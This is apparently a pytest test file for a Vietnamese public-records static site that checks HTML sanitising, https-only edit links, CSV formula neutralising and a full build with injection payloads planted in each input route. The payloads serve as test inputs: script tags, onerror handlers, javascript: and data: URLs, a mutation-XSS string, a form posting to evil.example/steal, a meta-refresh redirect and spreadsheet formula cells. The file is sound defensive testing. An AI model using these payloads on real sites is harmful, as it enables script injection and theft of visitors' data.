"""No injected markup (issue 9, item 3): staff HTML is sanitised, every value from data is
escaped once wherever the theme prints it, edit links are https only, and open-data CSV cells
cannot run as spreadsheet formulas.

End to end: a copy of the shipped site with a payload planted through each route
(``tests/golden/injection-planted``: agency name, a notice, a full text, a hand-written page's
front matter and ``<h1>``, document titles), built by the real CLI and read back.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from pathlib import Path

import markdown as md
import pytest
from bs4 import BeautifulSoup
from conftest import ROOT, SEED_AS_OF, Build, build, make_project
from mkdocs.config import load_config

from congkhai.datasets.site import load_site
from congkhai.exports import neutralise_formula, to_csv, to_json
from congkhai.problems import Problems
from congkhai.registry import load_registry
from congkhai.sanitize import safe_url, sanitize_html

GOLDEN = Path(__file__).parent / "golden"
PLANTED = GOLDEN / "injection-planted"
AGENCY = "Sở Nội vụ & Văn phòng <script>alert('agency')</script>"


def project_markdown() -> md.Markdown:
    """Python-Markdown configured exactly as mkdocs.yml configures it for the build."""
    config = load_config(str(ROOT / "mkdocs.yml"))
    return md.Markdown(extensions=config.markdown_extensions, extension_configs=config.mdx_configs)


def dom(html: str) -> str:
    """The HTML re-serialised from its parse tree: equal for equivalent markup whatever the
    spelling (``<br />`` and ``<br>``, ``&para;`` and ``¶``)."""
    return BeautifulSoup(html, "html.parser").decode()


# --- sanitize_html: what goes ---------------------------------------------------------

REMOVED = [
    ("script_element", "<script>alert(1)</script><p>x</p>", "<p>x</p>"),
    ("img_onerror", '<img src="a.png" onerror="alert(1)">', '<img src="a.png">'),
    ("iframe", '<iframe src="https://evil.example/"></iframe><p>y</p>', "<p>y</p>"),
    (
        "form_action",
        '<form action="https://evil.example/steal"><input name="cccd"><button>Gửi</button></form>',
        "Gửi",
    ),
    ("javascript_href", '<a href="javascript:alert(1)">x</a>', "<a>x</a>"),
    ("javascript_mixed_case", '<a href="JaVaScRiPt:alert(1)">x</a>', "<a>x</a>"),
    ("javascript_tab_entity", '<a href="java&#x09;script:alert(1)">x</a>', "<a>x</a>"),
    (
        "data_url",
        '<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">x</a>',
        "<a>x</a>",
    ),
    ("vbscript_img", '<img src="vbscript:msgbox(1)">', "<img>"),
    ("style_and_onclick", '<p style="position:fixed" onclick="alert(1)">t</p>', "<p>t</p>"),
    ("style_element", "<style>body{display:none}</style><p>t</p>", "<p>t</p>"),
    ("svg_script", "<svg><script>alert(1)</script></svg>", ""),
    (
        "mathml_style_mutation",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "",
    ),
    (
        "object_embed_base_meta",
        '<object data="x"></object><embed src="x"><base href="https://e/">',
        "",
    ),
    ("meta_refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example/">', ""),
    ("id_outside_headings", '<p id="ck-searchbar-q">x</p>', "<p>x</p>"),
    (
        "target_blank",
        '<a href="https://a.vn" target="_blank">x</a>',
        '<a href="https://a.vn">x</a>',
    ),
    ("comment", "<p>a<!-- <script>alert(1)</script> --></p>", "<p>a</p>"),
]


@pytest.mark.parametrize(("name", "html", "expected"), REMOVED, ids=[r[0] for r in REMOVED])
def test_sanitize_html_removes(name: str, html: str, expected: str) -> None:
    assert sanitize_html(html) == expected


# --- sanitize_html: what stays (real Python-Markdown output with the project's extensions) ---

KEPT = [
    ("heading_with_permalink", "## Thời gian và địa điểm\n"),
    ("table", "| Cột | Giá trị |\n|---|---|\n| a | `b` |\n"),
    ("lists", "1. một\n2. hai\n\n- ba\n    - bốn\n"),
    ("definition_list", "Tiếp công dân\n:   Việc cơ quan đón tiếp người dân.\n"),
    ("admonition", '!!! note "Lưu ý"\n    Nội dung **quan trọng**.\n'),
    (
        "links_allowed_schemes",
        "[a](https://a.vn) [b](http://b.vn) [c](mailto:a@b.vn) [d](tel:+842123)\n",
    ),
    ("links_relative_and_fragment", "[văn bản](../van-ban/) [mục](#muc) [tệp](tep/a.pdf)\n"),
    ("link_title", '[a](https://a.vn "Cổng tỉnh")\n'),
    ("image", '![Sơ đồ](so-do.png "Sơ đồ tổ chức")\n'),
    ("code_block", "```\n<script>alert(1)</script>\n```\n"),
    ("attr_list_class", "Đoạn văn\n{: .ck-note }\n"),
    ("emphasis_and_break", "**BÁO CÁO**  \n*Kết quả* ~~x~~\n"),
    ("abbr_raw_html", '<abbr title="Ủy ban nhân dân">UBND</abbr> tỉnh\n'),
    ("blockquote_hr", "> trích dẫn\n\n---\n"),
]


@pytest.mark.parametrize(("name", "source"), KEPT, ids=[r[0] for r in KEPT])
def test_sanitize_html_keeps_what_markdown_produces(name: str, source: str) -> None:
    html = project_markdown().convert(source)
    assert dom(sanitize_html(html)) == dom(html)


def test_shipped_notices_full_texts_and_pages_are_unchanged_by_sanitising() -> None:
    """Sanitising is invisible on the shipped site: every notice body, full text and
    hand-written page renders to the same markup (citations are linked after sanitising,
    by congkhai/citing.py, whose markup tests/test_citing.py checks)."""
    registry = load_registry(ROOT, dt.date.fromisoformat(SEED_AS_OF))
    converter = project_markdown()
    rendered: dict[str, str] = {}
    for notice in registry.notices:
        rendered[notice.file] = converter.reset().convert(notice.body)
    for doc in registry.documents.values():
        if doc.body:
            text = (ROOT / "docs" / doc.body).read_text(encoding="utf-8-sig")
            rendered[doc.body] = converter.reset().convert(text)
    for page in sorted((ROOT / "docs").glob("**/*.md")):
        if "toan-van" not in page.parts:
            rendered[str(page.relative_to(ROOT))] = converter.reset().convert(
                page.read_text(encoding="utf-8")
            )
    assert any(k.startswith("data/thong-bao/") for k in rendered)
    assert any(k.startswith("toan-van/") for k in rendered)
    assert "docs/gioi-thieu.md" in rendered
    for source, html in rendered.items():
        assert dom(sanitize_html(html)) == dom(html), source


# --- safe_url -----------------------------------------------------------------------------

URLS = [
    ("github_edit", "https://github.com/so-noi-vu/cong-khai/edit/main/", True),
    ("https_with_path_and_query", "https://git.example.gov.vn/du-lieu?tab=1#L2", True),
    ("javascript", "javascript:alert(1)//", False),
    ("javascript_uppercase", "JAVASCRIPT:alert(1)", False),
    ("data", "data:text/html,<script>alert(1)</script>", False),
    ("http_in_clear", "http://github.com/so-noi-vu/cong-khai", False),
    ("uppercase_scheme", "HTTPS://github.com/", False),
    ("leading_space", " https://github.com/", False),
    ("tab_inside_scheme", "java\tscript:alert(1)", False),
    ("newline_inside", "https://github.com/\nx", False),
    ("zero_width_space", "https://git\u200bhub.com/", False),
    ("bidi_override", "https://github.com/\u202eexe.txt", False),
    ("quote_breaks_attribute", 'https://a.vn/"><script>alert(1)</script>', False),
    ("backslash_host_trick", "https:\\\\evil.example", False),
    ("no_host", "https:///x", False),
    ("scheme_relative", "//evil.example/", False),
    ("bad_ipv6_host", "https://[::1", False),
    ("empty", "", False),
]


@pytest.mark.parametrize(("name", "url", "accepted"), URLS, ids=[u[0] for u in URLS])
def test_safe_url(name: str, url: str, accepted: bool) -> None:
    assert safe_url(url) == (url if accepted else None)


@pytest.mark.parametrize(
    "edit_url", ["javascript:alert(1)//", "http://github.com/a/b", "https://github.com/a b"]
)
def test_site_yaml_edit_url_must_be_https(tmp_path: Path, edit_url: str) -> None:
    path = tmp_path / "site.yaml"
    path.write_text(f"agency:\n  name: Văn phòng\nedit_url: '{edit_url}'\n", encoding="utf-8")
    problems = Problems()
    assert load_site(path, problems) is None
    assert [str(p) for p in problems.errors] == [
        f'data/site.yaml:3: khóa "edit_url": "{edit_url}" không phải địa chỉ https:// hợp lệ; '
        "liên kết sửa dữ liệu phải bắt đầu bằng https://, không có khoảng trắng hay ký tự "
        "điều khiển (must be an https:// URL without spaces or control characters)"
    ]


# --- open-data CSV ------------------------------------------------------------------------

CELLS = [
    ("hyperlink_formula", '=HYPERLINK("http://x")', '\'=HYPERLINK("http://x")'),
    ("plus", "+84 212 3852 111", "'+84 212 3852 111"),
    ("minus", "-1+2", "'-1+2"),
    ("at_function", "@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("tab", "\t=1+1", "'\t=1+1"),
    ("carriage_return", "\r=1+1", "'\r=1+1"),
    ("ordinary_text", "Kế hoạch đối thoại", "Kế hoạch đối thoại"),
    ("iso_date", "2021-03-05", "2021-03-05"),
    ("formula_sign_inside", "Tổng = 5", "Tổng = 5"),
    ("empty", "", ""),
]


@pytest.mark.parametrize(("name", "value", "expected"), CELLS, ids=[c[0] for c in CELLS])
def test_csv_text_cells_are_neutralised(name: str, value: str, expected: str) -> None:
    data = to_csv(
        [{"title": value, "percent": -5, "example": False}], ("title", "percent", "example")
    )
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows == [["title", "percent", "example"], [expected, "-5", "False"]]


def test_numbers_and_json_keep_their_values() -> None:
    assert neutralise_formula(-5) == -5
    assert neutralise_formula(-0.5) == -0.5
    record = {"title": '=HYPERLINK("http://x")', "percent": -5}
    payload = json.loads(to_json([record], dataset="x", as_of="2021-11-30", source="data/"))
    assert payload["records"] == [record]


# --- end to end: a payload through each route ---------------------------------------------


def planted_project(tmp_path: Path) -> Path:
    overlay = PLANTED / "overlay"
    files: dict[str, str | bytes] = {
        str(p.relative_to(overlay)): p.read_text(encoding="utf-8")
        for p in overlay.rglob("*")
        if p.is_file()
    }
    project = make_project(tmp_path, files)
    # Appended, not replaced: replacing documents.csv would drop the notices that cite it.
    extra = (PLANTED / "append" / "data" / "documents.csv").read_text(encoding="utf-8")
    with (project / "data" / "documents.csv").open("a", encoding="utf-8", newline="") as out:
        out.write(extra)
    return project


@pytest.fixture(scope="module")
def planted(tmp_path_factory: pytest.TempPathFactory) -> Build:
    tmp = tmp_path_factory.mktemp("injection")
    result = build(planted_project(tmp), tmp / "site")
    assert result.returncode == 0, result.output
    return result


def html_pages(site: Build) -> dict[str, BeautifulSoup]:
    return {
        str(p.relative_to(site.site)): BeautifulSoup(p.read_text(encoding="utf-8"), "lxml")
        for p in site.site.rglob("*.html")
    }


def test_no_planted_payload_is_live_on_any_page(planted: Build) -> None:
    """Whatever route it took, no payload is an element, an attribute or a link."""
    pages = html_pages(planted)
    assert len(pages) > 50
    for name, soup in pages.items():
        for script in soup.find_all("script"):
            if script.get("type") == "application/ld+json":
                # data, not code: it must stay one JSON value that cannot close the element
                assert "<" not in script.get_text(), name
                json.loads(script.get_text())
            else:
                assert "alert(" not in script.get_text(), name
        for element in soup.find_all(True):
            for attribute, value in element.attrs.items():
                assert not attribute.lower().startswith("on"), (name, element.name, attribute)
                if attribute in {"href", "src", "action", "formaction"}:
                    assert "javascript:" not in str(value).lower(), (name, element)
                    assert "evil.example" not in str(value), (name, element)
        assert soup.find(["iframe", "object", "embed"]) is None, name
        # the site's own search forms stay; the planted form and its fields are gone
        assert soup.find("input", attrs={"name": "so-cccd"}) is None, name
        assert soup.find("button", string="Gửi hồ sơ") is None, name


def test_agency_name_is_text_escaped_exactly_once(planted: Build) -> None:
    for url in ("", "gioi-thieu/", "thong-bao/tiem-ma-doc/", "van-ban/o-csv-cong-thuc/"):
        soup = planted.html(url)
        source = (planted.site / url / "index.html").read_text(encoding="utf-8")
        # parsed once, the text is the name itself: escaped neither zero times nor twice
        assert soup.select_one(".ck-brand__name").get_text(strip=True) == AGENCY
        assert soup.select_one("label.md-nav__title").get_text(strip=True) == AGENCY
        assert soup.title.get_text().endswith(AGENCY)
        assert soup.find("meta", attrs={"name": "DC.publisher"})["content"] == AGENCY
        assert AGENCY in soup.select_one(".ck-footer").get_text()
        assert "Sở Nội vụ &amp; Văn phòng" in source
        assert "&amp;amp;" not in source
        assert "<script>alert('agency')" not in source
    assert planted.html("").title.get_text() == AGENCY


def test_notice_body_is_sanitised(planted: Build) -> None:
    soup = planted.html("thong-bao/tiem-ma-doc/")
    body = soup.select_one("article")
    text = body.get_text()
    assert "Nội dung thông báo có mã độc cài vào." in text
    assert "Gửi hồ sơ" in text  # the button's words stay, the form goes
    assert body.find("img", src="anh.png", alt="ảnh minh họa").attrs == {
        "src": "anh.png",
        "alt": "ảnh minh họa",
    }
    link = body.find("a", string="bấm vào đây")
    assert link is not None and link.get("href") is None
    title = "Thông báo </title><script>alert('notice-title')</script>"
    assert soup.title.get_text().startswith(title + " - ")
    assert soup.select_one("article h1").get_text(strip=True) == title


def test_full_text_is_sanitised(planted: Build) -> None:
    body = planted.html("van-ban/bao-cao-doi-thoai-2021/").select_one("article")
    paragraph = body.find("p", string="Đoạn văn có thuộc tính sự kiện.")
    assert paragraph is not None and paragraph.attrs == {}
    assert body.find("a", string="Tải biểu mẫu").get("href") is None
    assert body.find("a", string="Liên hệ")["href"] == "mailto:vanphong@example.gov.vn"


def test_hand_written_page_front_matter_and_body(planted: Build) -> None:
    soup = planted.html("gioi-thieu/")
    title = "Giới thiệu </title><script>alert('fm-title')</script>"
    assert soup.title.get_text() == f"{title} - {AGENCY}"
    assert soup.find("meta", attrs={"name": "description"})["content"] == (
        "\"><script>alert('fm-description')</script>"
    )
    heading = soup.find("h2", id="muc")
    assert heading.find("img").attrs == {"src": "x.png"}


def test_title_from_h1_of_a_hand_written_page_is_escaped_once(planted: Build) -> None:
    soup = planted.html("hoi-dap/")
    assert soup.title.get_text() == f"Hỏi & đáp alert('h1-title') - {AGENCY}"
    source = (planted.site / "hoi-dap" / "index.html").read_text(encoding="utf-8")
    assert "Hỏi &amp; đáp" in source and "&amp;amp;" not in source


def test_document_title_in_title_meta_and_json_ld(planted: Build) -> None:
    soup = planted.html("van-ban/tieu-de-the-script/")
    title = "Kế hoạch </title></script><script>alert('doc-title')</script>"
    assert soup.title.get_text().startswith(f"Kế hoạch 16/KH-VPUB: {title} - ")
    ld = soup.find("script", type="application/ld+json")
    assert json.loads(ld.string)["name"] == title


def test_csv_cell_neutralised_json_kept(planted: Build) -> None:
    text = (planted.site / "du-lieu-mo" / "van-ban.csv").read_text(encoding="utf-8-sig")
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(text, newline=""))}
    assert rows["o-csv-cong-thuc"]["title"] == '\'=HYPERLINK("http://x")'
    payload = json.loads((planted.site / "du-lieu-mo" / "van-ban.json").read_text("utf-8"))
    records = {r["id"]: r for r in payload["records"]}
    assert records["o-csv-cong-thuc"]["title"] == '=HYPERLINK("http://x")'
    page = " ".join(planted.html("du-lieu-mo/").select_one("article").get_text(" ").split())
    assert "được thêm dấu nháy đơn ' ở đầu (theo khuyến nghị của OWASP)" in page


def test_edit_url_javascript_is_refused(tmp_path: Path) -> None:
    overlay = GOLDEN / "injection-edit-url" / "overlay"
    site_yaml = (overlay / "data" / "site.yaml").read_text(encoding="utf-8")
    project = make_project(tmp_path, {"data/site.yaml": site_yaml})
    result = build(project, tmp_path / "site")
    assert result.returncode != 0
    line = site_yaml.splitlines().index('edit_url: "javascript:alert(1)//"') + 1
    assert (
        f'data/site.yaml:{line}: khóa "edit_url": "javascript:alert(1)//" không phải địa chỉ '
        "https:// hợp lệ" in result.output
    )
    assert "Traceback" not in result.output
